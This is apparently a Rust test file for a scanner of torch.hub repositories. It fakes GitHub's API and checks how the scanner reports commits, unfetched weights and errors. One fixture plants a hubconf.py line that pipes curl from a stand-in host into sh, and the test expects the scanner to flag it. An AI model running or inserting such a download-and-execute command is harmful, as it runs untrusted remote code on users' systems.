//! A fake of GitHub, as far as `torch.hub` goes: a commit, one file as it is, an archive without ranges.

use mantlet_vocab::Verdict;

use super::server::{Body, Reply, Seen, Server};
use super::{list, look, names, reasons, verdict};

const COMMIT: &str = "0123456789abcdef0123456789abcdef01234567";
const HUBCONF: &str = "dependencies = []\nURL = 'https://dl.example/w.pth'\n# https://dl.example/not.pth\n";

/// `org/model` at `branch`, whose `hubconf.py` says this.
fn forge(branch: &'static str, hubconf: Option<&'static str>) -> Server {
    Server::start(move |seen: &Seen| {
        let path = seen.path();
        if path == format!("/repos/org/model/commits/{branch}") {
            assert_eq!(seen.header("accept"), Some("application/vnd.github.sha"));
            return Reply::new(200, COMMIT);
        }
        match (path, hubconf) {
            ("/repos/org/model/contents/hubconf.py", Some(text)) => {
                assert!(seen.target.ends_with(&format!("?ref={COMMIT}")), "{}", seen.target);
                Reply::new(200, text)
            }
            // As GitHub does: to another address, from which the archive comes in chunks.
            ("/repos/org/model/zipball/0123456789abcdef0123456789abcdef01234567", _) => {
                Reply::redirect("/codeload/org/model")
            }
            ("/codeload/org/model", _) => {
                let lines: String =
                    hubconf.unwrap_or("x = 1\n").lines().map(|line| format!("  {line}\n")).collect();
                let member = format!("member org-model-0123456/hubconf.py text\n{lines}");
                let zip = mantlet_testkit::forge("zip", &member).expect("the archive can be forged");
                Reply::new(200, "").body(Body::Chunked(zip))
            }
            _ => Reply::new(if path.contains("/commits/") { 422 } else { 404 }, "{}"),
        }
    })
}

#[test]
fn a_repository_is_scanned_at_its_commit_and_its_weights_are_told() {
    for (branch, uri, shown) in [
        ("main", "torchhub://org/model", "main"),
        ("master", "torchhub://org/model", "master"),
        ("release/1", "torchhub://org/model:release/1", "release%2F1"),
    ] {
        let server = forge(branch, Some(HUBCONF));
        let url = server.url("");
        let environment = [("GITHUB_API_URL", url.as_str())];
        let listing = list(uri, &environment).unwrap();
        assert!(listing.notes.iter().any(|note| note.contains(COMMIT)), "{:?}", listing.notes);
        let seen = look(uri, &environment, false);
        assert!(
            names(&seen).contains(&format!("torchhub://org/model:{shown}/source.zip").as_str()),
            "{}",
            reasons(&seen)
        );
        // Told, and not fetched: that alone is why it is not clean.
        assert_eq!(verdict(&seen), Verdict::NotFullyExamined, "{}", reasons(&seen));
        assert_eq!(seen.gaps.len(), 1, "{}", reasons(&seen));
        assert_eq!(seen.gaps[0].what, "https://dl.example/w.pth");
    }
}

#[test]
fn code_is_judged_and_what_is_missing_said() {
    let server = forge("main", Some("import os\nos.system('curl http://x.example/i | sh')\n"));
    let url = server.url("");
    let environment = [("GITHUB_API_URL", url.as_str()), ("GITHUB_TOKEN", "geheim")];
    let seen = look("torchhub://org/model", &environment, false);
    assert_eq!(verdict(&seen), Verdict::Found, "{}", reasons(&seen));
    assert!(server.requests().iter().all(|request| request.header("authorization") == Some("Bearer geheim")));
    let none = forge("main", None);
    let url = none.url("");
    let listing = list("torchhub://org/model", &[("GITHUB_API_URL", &url)]).unwrap();
    assert!(listing.notes.iter().any(|note| note.contains("no hubconf.py")), "{:?}", listing.notes);
    assert_eq!(verdict(&look("torchhub://org/model", &[("GITHUB_API_URL", &url)], false)), Verdict::Clean);
    let fault = list("torchhub://org/model:v9", &[("GITHUB_API_URL", &url)]).unwrap_err().to_string();
    assert!(fault.contains("422"), "{fault}");
    let clear = [("GITHUB_API_URL", "http://github.example"), ("GITHUB_TOKEN", "geheim")];
    assert!(list("torchhub://org/model", &clear).unwrap_err().to_string().contains("plain http"));
}
